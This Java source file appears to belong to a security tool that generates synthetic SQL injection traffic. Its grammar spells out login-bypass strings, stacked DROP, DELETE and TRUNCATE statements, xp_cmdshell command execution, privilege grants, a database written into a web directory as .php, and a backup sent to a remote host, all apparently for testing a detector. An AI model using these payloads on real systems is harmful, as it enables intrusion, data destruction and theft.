package ai.kongguard.traffic.attack;

import ai.kongguard.event.ThreatType;
import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;
import java.util.SplittableRandom;
import java.util.function.Function;
import java.util.stream.Stream;

/** Breaking out of a literal: to log in, to change data, to run a second statement, or to see what breaks. */
final class SqlInjection {

    private static final Grammar GRAMMAR = SqlWords.GRAMMAR.extend(
            """
            login ::=
              4×«user»'«-- -¦--¦#¦/*¦--+¦ -- ¦;--¦-- «letters 2..4»»
              2×«user»«'¦"¦')¦")» or «truth»«end»
              2×«user»'«?«sp»»or«sp»'«x:=«letters 1..3»¦«1..99»»'='«=x»«?'-- -»
              «user»" or "«x:=letters 1..3»"="«=x»
              3×«?«user»»«k:='¦"»«=¦-¦|¦&¦^¦*¦+¦ or ¦||¦&&¦<>¦%¦ like ¦ or ''='¦or 1 or»«=k»
              '«=¦ like¦ or ¦||¦<»«'¦0--+¦0#¦''»
              «?«user»»'='«?'»
              ' or ''«=¦-¦*¦&¦^»'
              " or ""«=¦-¦*¦&¦^»"
              «user»'«?)» or («x:=1..9»=«=x»«¦ or ''='»«end»
              ') or ('«x:=letters 1..2»'='«=x»
              '))«?)» or «truth»«end»
              «user»' and «truth»«end»
              «user»' limit 1«end»
              «user»'||'«?«x:=1..9»'='«=x»»
              or «truth»«end»
              ' union select «0..3×'«letters 3..6»',»'«hex 32..32»'«end»
              «user»' and password like '%
              \\' or «truth»«end»
              1' or '1'='1«?' «end»»
              '/**/or/**/«x:=1..99»=«=x»«end»
              ' or «column» like '%«letters 1..3»%
              «user»' or «column» is not null«end»
              '"«?)» or «x:=1..9»=«=x»«end»
            stacked ::=
              5×«out»«;¦; »«statement»«end»
              «before»'«;¦; »«statement»;«select»«end»
              1;«statement»
              «out»'; «?if(«truth») »«statement»«end»
            statement ::=
              3×drop «table¦database¦view¦index¦procedure» «?if exists »«table»
              2×update «table» set «column»=«value_sql»«?«sp»where «column»=«value_sql»»
              2×insert into «table»«?(«column»,«column»)» values («value_sql»,«value_sql»«0..3×,«value_sql»»)
              2×delete from «table»«?«sp»where «column»«=¦ like ¦>»«value_sql»»
              truncate table «table»
              «exec¦execute» «?master..»«xp_cmdshell¦xp_cmdshell»«?(»'«windows_command»'
              exec sp_configure '«show advanced options¦xp_cmdshell¦Ole Automation Procedures»',1;reconfigure
              «exec¦execute» «sp_executesql¦immediate» «?N»'«select»'
              alter «table «table» «drop column¦add» «column»¦login «user» with password='«alnum 6..10»'¦user «user» identified by '«alnum 4..9»'»
              create «table «name»(«column» «text¦int¦varchar(«10..8000»)»)¦user «user» with password '«alnum 4..9»'¦database «name»»
              grant «all¦all privileges¦select¦dba» on «*.*¦«table»» to «user»
              shutdown«? with nowait»
              declare @«name» «varchar(«10..8000»)¦nvarchar(4000)¦int»;set @«name»=0x«@hex «select»»;exec(@«name»)
              declare @«name» varchar(99) set @«name»='«select»' exec(@«name»)
              begin «select»; end
              set «global ¦@¦session »«name»=«n»
              prepare «name» from concat('«letters 2..4»','«letters 2..5»');execute «name»
              create or replace function «name»(text) returns void as $$ «select» $$ language plpgsql
              rename table «table» to «name»
              call «name»(«n»)
              «select»
              attach database '/var/www/«name».php' as «name»
              backup database «name» to disk='\\\\«host»\\«name»'
              handler «table» open;handler «table» read first
              pragma «table_info(«table»)¦database_list¦foreign_keys=off»
              commit
            value_sql ::=
              '«word»'
              '«alnum 2..10»'
              «n»
              null
              (select «column» from «table»«?«sp»«one»»)
              «secret»
              '«hex 32..32»'
            probe ::=
              3×«before»«'¦"¦')¦'))¦")¦`¦''¦""¦'"¦"'¦'''¦\\'¦\\¦')#¦'--¦'-- -¦'#¦'/*¦%27¦%22¦'||¦'+'¦';¦";¦'%00»
              3×«before»«'¦"¦')¦`¦)» «--¦#¦-- -¦/*¦;»
              «before»«'"¦('¦'('¦'),(¦("¦.)('"¦,("'¦(..)«letters 2..3»'¦"),'(."¦.,(,(.'"»«?«letters 4..6»»
              «letters 3..6»'"<«letters 3..6»>
              «before»'«letters 4..6»<'">«letters 4..6»
              «before»«1..3×«'¦"¦)¦(¦,¦.¦;»»«letters 4..6»
              «before»'«+¦||¦ ¦-»'«letters 1..3»
              «before»/«0..1»
              «before»'«,¦;¦:¦)¦(¦/¦&»'
              «before»«;¦'¦"»«select¦exec¦union¦having 1=1»«end»
            order ::=
              3×«out» order by «1..50»«0..2×,«1..20»»«end»
              2×«out» group by «1..30»«0..2×,«1..9»»«end»
              «out» group by «table».«column»«0..2×,«table».«column»» having «truth»«end»
              2×«out» having «truth»«end»
              «out» order by («select»)«end»
              «out» order by if(«truth»,«column»,«column»)«end»
              «out» order by (case when «truth» then «column» else «column» end)«?asc¦desc»«end»
              «column»«,¦ ¦ asc,¦ desc,»(«select»)
              «column» «asc¦desc»,extractvalue(«n»,concat(«mark»,(«secret»)))
              «out» order by «column» «asc¦desc» limit «0..9»,«1..9»«end»
              «out» limit «0..9»,«1..9»«end»
              «out» order by rand(«truth»)«end»
              «out» order by field(«column»,«n»,«n»)«end»
            write ::=
              3×«word»«',¦","¦'),('»«0..4×'«letters 2..5»',»««secret»¦(«select»)»)«end»
              2×«word»', «column»=«value_sql»«?«sp»where «column»=«value_sql»»«end»
              2×«word»'«+¦||»(«select»)«+¦||»'
              «word»',«column»=(«select»),«column»='«letters 0..3»
              «word»') on duplicate key update «column»=«value_sql»«end»
              «word»'),((«select»),'«letters 2..5»')«end»
              «user»'-- «letters 3..6»
              '||(select «column» from «table» where «column»='«user»')||'
              «word»' where «truth»«end»
              «word»' returning «secret»«end»
              «n»,«column»=«value_sql»
              «n» where «truth»«end»
              «word»'|conv(hex(substr((«select»),«1..9»,8)),16,10)|'
            whole ::=
              3×«select»
              2×«statement»
              select * from «table» where «column»='«word»' «op» «truth»«end»
              select «column», «column» from «table» where «column» = «value_sql» union select «secret», «n» from «table»
              select case when «truth» then «n» else «n» end from «table»
              select * from «table» where «column» = «n» or «truth»
              select «column» from «table» where exists («select»)
              with «name» as («select») select * from «name»
            fingerprint ::=
              2×«out» «op» «version() like '«5..16»%'¦@@version like '%«letters 3..6»%'¦substring(@@version,1,1)=«1..9»»«end»
              «out» «op» «connection_id()=connection_id()¦crc32('«x:=letters 2..4»')=crc32('«=x»')¦last_insert_id()=last_insert_id()»«end»
              «out» «op» «pg_client_encoding()=pg_client_encoding()¦get_current_ts_config()=get_current_ts_config()¦«n»::int=«n»»«end»
              «out» «op» «binary_checksum(«x:=1..99»)=binary_checksum(«=x»)¦@@connections>0¦square(«1..9»)>0¦usr_name(7)=usr_name(7)»«end»
              «out» «op» «rownum=rownum¦rawtohex('«x:=letters 1..3»')=rawtohex('«=x»')¦lnnvl(0=«1..9»)¦bitand(1,1)=1»«end»
              «out» «op» «sqlite_version()=sqlite_version()¦last_insert_rowid()>1¦val(cvar(1))=1¦cdbl(1)=cdbl(1)¦glob('a*','«letters 3..4»')»«end»
              «out» «op» «i:=1..999»=«=i»/*!«30000..80099» «op» «1..9»=«1..9»*/«end»
              «1..99»/*!«30000..80099»«'¦)» «op» «truth»*/
              «before»«quote» «and¦or» conv('«letters 1..1»',16,2)=conv('«letters 1..1»',16,2)«end»
              «before»'«+¦||¦ »'«letters 2..3»' «op» '«letters 1..2»
              «out» «op» '«x:=letters 1..3»'='«=x»'«+¦||¦ »''«end»
              «out» and row_count()>«0..9»«end»
              «out» «op» quarter(null) is null«end»
            """);

    static final List<AttackFamily> FAMILIES = Stream.of(
                    SqlInference.FAMILIES,
                    SqlExtraction.FAMILIES,
                    List.of(
                            family(GRAMMAR, "sql_login", "login"),
                            family(GRAMMAR, "sql_stacked", "stacked"),
                            family(GRAMMAR, "sql_probe", "probe"),
                            family(GRAMMAR, "sql_order", "order"),
                            family(GRAMMAR, "sql_write", "write"),
                            family(GRAMMAR, "sql_statement", "whole"),
                            family(GRAMMAR, "sql_fingerprint", "fingerprint")))
            .flatMap(List::stream)
            .toList();

    private SqlInjection() {}

    /** A family of this rule. Grammars are in lower case; what is sent is as people and tools write SQL. */
    static AttackFamily family(Grammar grammar, String name, String rule) {
        Function<SplittableRandom, String> drawn = grammar.from(rule);
        return AttackFamily.of(
                name, ThreatType.SQL_INJECTION, random -> KeywordCase.anyOf(random, drawn.apply(random)));
    }
}
